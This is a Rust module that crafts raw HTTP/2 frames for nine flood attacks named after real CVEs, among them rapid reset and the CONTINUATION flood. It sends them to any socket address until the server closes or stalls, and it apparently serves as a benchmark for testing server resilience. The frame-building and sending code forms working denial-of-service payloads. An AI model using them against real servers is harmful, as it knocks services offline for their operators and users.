//! HTTP/2 spoken to do harm, frame by frame (RFC 9113). It stands alone: the bench of the same name uses it too.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

/// What is sent without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back at once ("rapid reset", CVE-2023-44487).
    Reset,
    /// One header that never ends ("CONTINUATION flood", CVE-2024-27316).
    Continuation,
    /// Pings, each of which wants an answer (CVE-2019-9512).
    Ping,
    /// Settings, each of which wants an answer (CVE-2019-9515).
    Settings,
    /// The same two, by somebody who never reads the answers.
    DeafPing,
    DeafSettings,
    /// Room for one byte more.
    Window,
    /// Priorities of streams that are not there.
    Priority,
    /// Frames of a kind that nobody knows.
    Unknown,
}

/// All of them.
pub const FLOODS: [Flood; 9] = [
    Flood::Reset,
    Flood::Continuation,
    Flood::Ping,
    Flood::Settings,
    Flood::DeafPing,
    Flood::DeafSettings,
    Flood::Window,
    Flood::Priority,
    Flood::Unknown,
];

/// How a flood ended.
#[derive(Clone, Copy, Debug)]
pub struct Ended {
    /// Bytes that the server took.
    pub bytes: usize,
    /// The server closed the connection.
    pub closed: bool,
    /// The server took no more of it for a while.
    pub stuck: bool,
    pub took: Duration,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// Nobody's.
const UNKNOWN: u8 = 0xbb;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// What a server that takes no more has until it is called stuck.
const STUCK_AFTER: Duration = Duration::from_secs(3);
/// Written at once.
const BATCH: usize = 16 << 10;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The header block of `GET {path}` (RFC 7541): two names of the static table, and two literals.
fn request(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (name, value) in [(4, path), (1, "localhost")] {
        block.extend([name, value.len() as u8]);
        block.extend(value.as_bytes());
    }
    block
}

impl Flood {
    /// The next frames; `turn` counts from 0.
    fn next(self, turn: u32) -> Vec<u8> {
        let stream = 2 * turn + 1;
        match self {
            Self::Reset => {
                let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &request("/api/v1/cameras"));
                both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                both
            }
            Self::Continuation if turn == 0 => frame(HEADERS, END_STREAM, 1, &request("/livez")),
            Self::Continuation => {
                let mut block = vec![0, 1, b'x', 100];
                block.extend([b'a'; 100]);
                frame(CONTINUATION, 0, 1, &block)
            }
            Self::Ping | Self::DeafPing => frame(PING, 0, 0, &u64::from(turn).to_be_bytes()),
            Self::Settings | Self::DeafSettings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, turn as u8]),
            Self::Window => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 15]),
            Self::Unknown => frame(UNKNOWN, 0, stream, &[0; 100]),
        }
    }

    /// Whether the answers are read.
    pub fn listens(self) -> bool {
        !matches!(self, Self::DeafPing | Self::DeafSettings)
    }

    /// Sends until the server has had enough, or `most` bytes are sent.
    pub async fn pour(self, address: SocketAddr, most: usize) -> std::io::Result<Ended> {
        let begun = Instant::now();
        let mut stream = TcpStream::connect(address).await?;
        stream.write_all(PREFACE).await?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        // A request before it, as somebody with good manners begins.
        if self != Self::Continuation && self != Self::Reset {
            stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &request("/livez"))).await?;
        }
        let (mut reading, mut writing) = stream.split();
        let (mut bytes, mut closed, mut stuck, mut turn) = (0, false, false, 0);
        let mut waste = vec![0; 64 << 10];
        while bytes < most && !closed && !stuck {
            let mut batch = Vec::with_capacity(BATCH + 256);
            while batch.len() < BATCH {
                batch.extend(self.next(turn));
                turn += 1;
            }
            let mut batch = &batch[..];
            while !batch.is_empty() {
                tokio::select! {
                    read = reading.read(&mut waste), if self.listens() => {
                        closed = !matches!(read, Ok(1..));
                    }
                    wrote = timeout(STUCK_AFTER, writing.write(batch)) => match wrote {
                        Ok(Ok(count)) => {
                            batch = &batch[count..];
                            bytes += count;
                        }
                        Ok(Err(_)) => closed = true,
                        Err(_) => stuck = true,
                    },
                }
                if closed || stuck {
                    break;
                }
            }
        }
        Ok(Ended { bytes, closed, stuck, took: begun.elapsed() })
    }
}
